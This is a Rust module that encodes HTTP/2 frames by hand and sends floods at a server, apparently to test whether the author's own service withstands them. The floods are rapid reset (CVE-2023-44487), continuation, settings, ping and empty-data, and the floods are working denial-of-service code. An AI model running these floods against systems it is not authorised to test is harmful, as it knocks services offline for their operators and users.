//! HTTP/2 frames by hand (RFC 9113), for clients that no library would let us be, and floods made of them.
//!
//! Headers are literals without compression (RFC 7541, section 6.2.2), so no state is shared with the server.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::time::timeout;

use crate::wire::Wire;

/// No more frames of this stream.
pub(super) const END_STREAM: u8 = 0x1;
/// The header block is whole.
pub(super) const END_HEADERS: u8 = 0x4;
const MAGIC: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADER_BYTES: usize = 9;
/// Longer frames are not allowed before settings say otherwise.
const PAYLOAD_BYTES_MAX: usize = 16_384;
/// Nobody needs longer to notice a flood.
const FLOOD_TIMEOUT: Duration = Duration::from_secs(15);

const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;

/// One frame.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Frame {
    kind: u8,
    flags: u8,
    stream: u32,
    payload: Vec<u8>,
}

impl Frame {
    fn new(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Self {
        Frame {
            kind,
            flags,
            stream,
            payload: payload.to_vec(),
        }
    }

    pub(super) fn headers(stream: u32, block: &[u8], flags: u8) -> Self {
        Frame::new(HEADERS, flags, stream, block)
    }

    pub(super) fn data(stream: u32, bytes: &[u8], flags: u8) -> Self {
        Frame::new(DATA, flags, stream, bytes)
    }

    /// Tells the server that nobody wants the answer any more (`CANCEL`).
    fn reset(stream: u32) -> Self {
        Frame::new(RST_STREAM, 0, stream, &8_u32.to_be_bytes())
    }

    /// As it is sent.
    pub(super) fn bytes(&self) -> Vec<u8> {
        let length = u32::try_from(self.payload.len())
            .unwrap_or(u32::MAX)
            .to_be_bytes();
        let mut bytes = length[1..].to_vec();
        bytes.extend([self.kind, self.flags]);
        bytes.extend(self.stream.to_be_bytes());
        bytes.extend_from_slice(&self.payload);
        bytes
    }

    /// Reads the next frame; `None` when the connection has ended, however.
    async fn read(from: &mut (impl AsyncRead + Unpin)) -> Option<Self> {
        let mut head = [0; HEADER_BYTES];
        from.read_exact(&mut head).await.ok()?;
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let mut payload = vec![0; length];
        from.read_exact(&mut payload).await.ok()?;
        Some(Frame {
            kind: head[3],
            flags: head[4],
            stream: u32::from_be_bytes([head[5] & 0x7f, head[6], head[7], head[8]]),
            payload,
        })
    }

    /// Whether the server has done with a stream, or with all of them.
    fn ends(&self, stream: u32) -> bool {
        match self.kind {
            GOAWAY => true,
            RST_STREAM => self.stream == stream,
            DATA | HEADERS => self.stream == stream && self.flags & END_STREAM != 0,
            _ => false,
        }
    }
}

/// What a client says first: the magic and empty settings.
pub(super) fn preface() -> Vec<u8> {
    [MAGIC, &Frame::new(SETTINGS, 0, 0, &[]).bytes()].concat()
}

/// The header block of a GET.
pub(super) fn get(path: &str) -> Vec<u8> {
    // Indexed fields of the static table: `:method GET` and `:scheme http`.
    let mut block = vec![0x82, 0x86];
    literal(&mut block, ":path", path);
    literal(&mut block, ":authority", "lyceum.test");
    block
}

/// The header block of a POST of JSON.
pub(super) fn post(path: &str, authorization: &str) -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    literal(&mut block, ":path", path);
    literal(&mut block, ":authority", "lyceum.test");
    literal(&mut block, "content-type", "application/json");
    literal(&mut block, "authorization", authorization);
    block
}

fn literal(block: &mut Vec<u8>, name: &str, value: &str) {
    block.push(0);
    for text in [name, value] {
        // Seven bits, and the rest in groups of seven (RFC 7541, section 5.1).
        let mut length = text.len();
        if length < 127 {
            block.push(u8::try_from(length).unwrap_or(126));
        } else {
            block.push(127);
            length -= 127;
            while length >= 128 {
                block.push(u8::try_from(length % 128).unwrap_or(0) | 128);
                length /= 128;
            }
            block.push(u8::try_from(length).unwrap_or(0));
        }
        block.extend_from_slice(text.as_bytes());
    }
}

/// Reads until the server has done with a stream, or the connection has ended.
pub(super) async fn stream_ended(mut from: impl AsyncRead + Unpin, stream: u32) {
    while let Some(frame) = Frame::read(&mut from).await {
        if frame.ends(stream) {
            return;
        }
    }
}

/// A kind of flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Flood {
    /// Requests that are cancelled at once ("rapid reset", CVE-2023-44487).
    Resets,
    /// A header block that never ends (CVE-2024-27316 and its kin).
    Continuations,
    /// Settings that all want to be acknowledged.
    Settings,
    /// Pings that all want to be answered.
    Pings,
    /// Frames of data that hold none.
    EmptyData,
}

impl Flood {
    pub(super) const ALL: [Flood; 5] = [
        Flood::Resets,
        Flood::Continuations,
        Flood::Settings,
        Flood::Pings,
        Flood::EmptyData,
    ];

    pub(super) fn name(self) -> &'static str {
        match self {
            Flood::Resets => "HTTP/2 resets",
            Flood::Continuations => "HTTP/2 continuations",
            Flood::Settings => "HTTP/2 settings",
            Flood::Pings => "HTTP/2 pings",
            Flood::EmptyData => "HTTP/2 empty data",
        }
    }

    /// Whether the server has to end the connection. It may answer the others, as long as they cost it nothing to keep.
    pub(super) fn must_end(self) -> bool {
        matches!(self, Flood::Resets | Flood::Continuations)
    }

    fn beginning(self, bearer: &str) -> Vec<u8> {
        let mut bytes = preface();
        match self {
            Flood::Continuations => bytes.extend(Frame::headers(1, &get("/v1/courses"), END_STREAM).bytes()),
            Flood::EmptyData => {
                bytes.extend(Frame::headers(1, &post("/v1/quotes", bearer), END_HEADERS).bytes());
            }
            Flood::Resets | Flood::Settings | Flood::Pings => {}
        }
        bytes
    }

    /// One helping, the `number`-th.
    fn helping(self, number: u32) -> Vec<u8> {
        match self {
            Flood::Resets => {
                // Client streams have odd numbers.
                let stream = number * 2 + 1;
                let mut bytes = Frame::headers(stream, &get("/v1/courses"), END_HEADERS | END_STREAM).bytes();
                bytes.extend(Frame::reset(stream).bytes());
                bytes
            }
            Flood::Continuations => {
                let mut block = Vec::with_capacity(PAYLOAD_BYTES_MAX);
                while block.len() < PAYLOAD_BYTES_MAX - 256 {
                    literal(&mut block, "x-flood", &"f".repeat(100));
                }
                Frame::new(CONTINUATION, 0, 1, &block).bytes()
            }
            Flood::Settings => Frame::new(SETTINGS, 0, 0, &[]).bytes(),
            Flood::Pings => Frame::new(PING, 0, 0, &u64::from(number).to_be_bytes()).bytes(),
            Flood::EmptyData => Frame::data(1, &[], 0).bytes(),
        }
    }
}

/// How a flood went.
#[derive(Clone, Copy, Debug)]
pub(super) struct Flooded {
    /// Helpings that the server took, or at least its kernel.
    pub(super) taken: u32,
    /// Whether the server ended the connection.
    pub(super) ended: bool,
}

/// Sends helpings until the server ends the connection, or all were sent and nothing happened for a while.
pub(super) async fn flood(
    kind: Flood,
    address: SocketAddr,
    token: &str,
    helpings: u32,
) -> io::Result<Flooded> {
    let mut wire = Wire::open(address).await?;
    let stream = wire.stream();
    stream
        .write_all(&kind.beginning(&format!("Bearer {token}")))
        .await?;
    let (mut read, mut write) = stream.split();
    let mut taken = 0;
    let writing = async {
        while taken < helpings {
            // Pairs of packets, so that the flood is one of frames and not of system calls.
            let mut bytes = kind.helping(taken);
            bytes.extend(kind.helping(taken + 1));
            if write.write_all(&bytes).await.is_err() {
                return true;
            }
            taken += 2;
        }
        // Everything was taken; whoever has had enough says so now.
        false
    };
    let reading = async {
        while let Some(frame) = Frame::read(&mut read).await {
            if frame.kind == GOAWAY {
                break;
            }
        }
    };
    let ended = timeout(FLOOD_TIMEOUT, async {
        tokio::pin!(reading);
        tokio::select! {
            () = &mut reading => return true,
            broken = writing => if broken { return true },
        }
        // Whoever may go on is not waited for.
        let patience = if kind.must_end() {
            FLOOD_TIMEOUT / 3
        } else {
            Duration::ZERO
        };
        timeout(patience, reading).await.is_ok()
    });
    let ended = ended.await.unwrap_or(false);
    Ok(Flooded { taken, ended })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_as_the_rfc_draws_them() {
        assert_eq!(Frame::reset(3).bytes(), [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
        assert!(preface().starts_with(MAGIC));
    }

    #[test]
    fn long_literals_have_long_lengths() {
        let mut block = Vec::new();
        literal(&mut block, "a", &"b".repeat(300));

        // 300 - 127 = 173 = 45 + 1 × 128
        assert_eq!(block[..6], [0, 1, b'a', 127, 45 | 128, 1]);
        assert_eq!(block.len(), 6 + 300);
    }

    #[tokio::test]
    async fn what_was_written_is_read() {
        let frame = Frame::data(1, b"abc", END_STREAM);
        let bytes = frame.bytes();
        let mut from = bytes.as_slice();

        assert_eq!(Frame::read(&mut from).await, Some(frame.clone()));
        assert!(frame.ends(1) && !frame.ends(3));
        assert_eq!(Frame::read(&mut from).await, None);
    }
}
